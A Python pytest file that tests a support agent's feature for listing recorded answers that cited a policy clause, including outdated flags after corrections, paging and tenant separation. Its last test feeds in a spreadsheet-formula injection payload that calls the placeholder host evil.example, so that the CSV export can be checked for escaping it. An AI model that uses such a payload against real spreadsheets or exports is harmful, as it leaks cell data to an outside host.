"""Who was told what: the answers that cited a clause, also after its text was corrected."""

from __future__ import annotations

import asyncio
import csv
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from io import StringIO
from pathlib import Path
from typing import Any

import psycopg
import pytest

from policies import store
from support_agent.administration.affected import PAGE, affected
from support_agent.administration.documents import parse_source, read_source
from support_agent.administration.tenants import load_tenant
from support_agent.bootstrap import Application
from support_agent.errors import InvalidRequestError, NotFoundError
from support_agent.request import AskRequest
from tests.e2e.command import Command
from tests.e2e.conftest import SAMPLE, sample_application
from tests.e2e.tenants import copy_of_sample
from tests.integration.conftest import Database

WINDOW = "refund-eu@2025-02-01#window"
REFUND = {"en": "Can I still get a refund for SO-1182?", "zh": "SO-1182 还能退款吗？"}


@dataclass(frozen=True, slots=True, kw_only=True)
class Site:
    application: Application
    database: Database


@pytest.fixture(scope="module")
async def site(new_database: Callable[[], Database], tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Site]:
    database = new_database()
    async with sample_application(database, tmp_path_factory.mktemp("data")) as application:
        yield Site(application=application, database=database)


@pytest.fixture
async def tenant(site: Site, tmp_path: Path, request: pytest.FixtureRequest) -> str:
    """A tenant like the sample, for one test alone."""
    slug = str(request.node.name).split("[")[0].removeprefix("test_").replace("_", "-")[:60]
    await load_tenant(site.application, copy_of_sample(tmp_path, slug), expected=slug, progress=lambda _: None)
    return slug


async def ask(site: Site, tenant: str, question: str, **request: Any) -> dict[str, Any]:
    asked = AskRequest(question=question, tenant=tenant, **{"customer": "C-2001", "at": "2025-03-25", **request})
    return dict((await site.application.ask(asked)).contract)


async def answers(site: Site, tenant: str, cited: str, **options: Any) -> list[dict[str, Any]]:
    return [one async for page in affected(site.application, tenant, cited, **options) for one in page.answers]


async def publish(site: Site, tenant: str, folder: Path, *, version: str, **changes: str) -> None:
    """Publish a version of `refund-eu` that is the one of February 2025 with some words changed."""
    text = (SAMPLE / "documents" / "refund-eu" / "2025-02-01.md").read_text("utf-8")
    for old, new in changes.items():
        text = text.replace(old.replace("_", " "), new)
    file = folder / f"{version}.md"
    file.write_text(text.replace("effective_from: 2025-02-01", f"effective_from: {version}"), "utf-8")
    async with site.application.open_tenant(tenant) as (session, settings):
        source, sidecar = read_source(file)
        known = await store.term_types(session)
        await store.publish(
            session, [parse_source(source, settings, known=known, sidecar=sidecar)], approval="bea", by="ada"
        )


async def test_answers_are_found_by_what_they_cite(site: Site, tenant: str) -> None:
    told = [await ask(site, tenant, REFUND[language], conversation=f"T-{language}") for language in ("en", "zh")]
    await ask(site, tenant, "Where is my order SO-1182?")

    found = await answers(site, tenant, WINDOW)

    # The newest first.
    assert [one["run_id"] for one in found] == [told[1]["run_id"], told[0]["run_id"]]
    assert found[0] == {
        "run_id": told[1]["run_id"],
        "recorded_at": found[0]["recorded_at"],
        "asked_at": "2025-03-25T11:00:00+00:00",
        "customer": "C-2001",
        "conversation": "T-zh",
        "status": "answered",
        "role": "governing",
        "clauses": ["window"],
        "outdated": False,
        "question": REFUND["zh"],
        "answer": told[1]["answer"],
    }
    assert await answers(site, tenant, "refund-eu#window@2025-02-01") == found
    assert await answers(site, tenant, "refund-eu@2025-02-01") == found


async def test_every_cited_clause_is_recorded_in_its_role(site: Site, tenant: str) -> None:
    outcome = await ask(site, tenant, REFUND["en"])
    cited = {(c["document"], c["version"], c["clause"], c["role"]) for c in outcome["citations"] if c["version"]}
    roles = {role for *_, role in cited}

    found = {
        (policy, version, clause, role)
        for policy, version, clause, _ in cited
        for role in ("governing", "considered")
        for one in await answers(site, tenant, f"{policy}@{version}#{clause}", role=role)
        if one["run_id"] == outcome["run_id"]
    }

    assert roles == {"governing", "considered"}
    assert found == cited


async def test_correction_leaves_those_who_were_told_the_old_text(site: Site, tenant: str, tmp_path: Path) -> None:
    told = [await ask(site, tenant, REFUND[language]) for language in ("en", "zh")]
    await publish(site, tenant, tmp_path, version="2025-02-01", within_14_days="within two weeks")
    after = await ask(site, tenant, REFUND["en"])

    found = await answers(site, tenant, WINDOW)
    outdated = await answers(site, tenant, WINDOW, only_outdated=True)

    assert {one["run_id"]: one["outdated"] for one in found} == {
        told[0]["run_id"]: True,
        told[1]["run_id"]: True,
        after["run_id"]: False,
    }
    assert {one["run_id"] for one in outdated} == {one["run_id"] for one in told}


async def test_successor_makes_no_answer_outdated(site: Site, tenant: str, tmp_path: Path) -> None:
    """It closes the period of the version before it, whose text stands."""
    told = await ask(site, tenant, REFUND["en"])
    await publish(site, tenant, tmp_path, version="2026-06-01", within_14_days="within 7 days")

    found = await answers(site, tenant, WINDOW)

    assert [(one["run_id"], one["outdated"]) for one in found] == [(told["run_id"], False)]
    assert await answers(site, tenant, WINDOW, only_outdated=True) == []


async def test_times_limit_what_is_listed(site: Site, tenant: str) -> None:
    for question in (REFUND["en"], REFUND["zh"], REFUND["en"]):
        await ask(site, tenant, question)
    newest, middle, oldest = await answers(site, tenant, WINDOW)

    assert await answers(site, tenant, WINDOW, since=middle["recorded_at"]) == [newest, middle]
    assert await answers(site, tenant, WINDOW, recorded_before=middle["recorded_at"]) == [oldest]


async def test_more_answers_than_a_page_are_listed_once_each(site: Site, tenant: str) -> None:
    outcome = await ask(site, tenant, REFUND["en"])
    n_more = 2 * PAGE
    with psycopg.connect(site.database.admin_url, autocommit=True) as connection:
        connection.execute(
            "with run as (select * from runs where run_id = %(run)s), copies as ("
            "   insert into runs (tenant_id, run_id, asked_at, recorded_at, status, customer_id, revision, receipt)"
            # Some of one instant: only the id tells their order.
            "   select tenant_id, gen_random_uuid(), asked_at, recorded_at - n / 7 * interval '1 second', status,"
            "          customer_id, revision, receipt from run, generate_series(1, %(n)s) as n"
            "   returning tenant_id, run_id, recorded_at)"
            " insert into run_citations"
            " select c.tenant_id, c.run_id, d.policy_id, d.version, d.clause, d.role, d.recording_from, c.recorded_at"
            " from copies c, run_citations d where d.run_id = %(run)s",
            {"run": outcome["run_id"], "n": n_more},
        )

    pages = [page async for page in affected(site.application, tenant, WINDOW)]

    found = [one for page in pages for one in page.answers]
    assert [len(page.answers) for page in pages] == [PAGE, PAGE, 1]
    assert len({one["run_id"] for one in found}) == n_more + 1 == pages[0].n_total
    assert [one["recorded_at"] for one in found] == sorted((one["recorded_at"] for one in found), reverse=True)


async def test_other_tenants_answers_are_not_listed(site: Site, tenant: str) -> None:
    await ask(site, "lumen", REFUND["en"])

    assert await answers(site, tenant, WINDOW) == []
    assert len(await answers(site, "lumen", WINDOW)) == 1


@pytest.mark.parametrize("cited", ["refund-eu@1999-01-01", "refund-eu@2025-02-01#nowhere", "no-such@2025-02-01#window"])
async def test_what_the_store_never_had_is_refused(site: Site, cited: str) -> None:
    with pytest.raises(NotFoundError, match="there is no"):
        await answers(site, "lumen", cited)


@pytest.mark.parametrize("cited", ["refund-eu", "", "@2025-02-01", "refund-eu#window", "a@b#c#d", "a@b@c", "a#b@c#d"])
async def test_what_names_no_version_is_refused(site: Site, cited: str) -> None:
    with pytest.raises(InvalidRequestError, match="POLICY@VERSION"):
        await answers(site, "lumen", cited)


async def test_command_lists_people_and_conversations(site: Site, tenant: str, tmp_path: Path) -> None:
    told = await ask(site, tenant, REFUND["zh"], conversation="T-7")
    command = Command.on(site.database.url, data=tmp_path)

    shown = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant)
    as_json = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant, "--json")
    none = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant, "--json", "--outdated")
    bad = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant, "--role", "told")

    assert shown.code == as_json.code == none.code == 0
    assert f"{WINDOW} is cited by 1 recorded answer." in shown.said
    for said in ("customer C-2001", "conversation T-7", f"run {told['run_id']}", "governing: window", "不能退款"):
        assert said in shown.said
    assert [one["run_id"] for one in as_json.json] == [told["run_id"]]
    assert none.json == []
    assert bad.code == 2


async def test_spreadsheet_runs_nothing_that_a_customer_wrote(site: Site, tenant: str, tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://evil.example?x="&A1,"refund") SO-1182 refund?'
    await ask(site, tenant, formula)
    command = Command.on(site.database.url, data=tmp_path / "data")

    result = await asyncio.to_thread(command, "policy", "affected", WINDOW, "--tenant", tenant, "--csv")

    (row,) = csv.DictReader(StringIO(result.out, newline=""))
    assert row["question"] == f"'{formula}"
    assert row["customer"] == "C-2001"
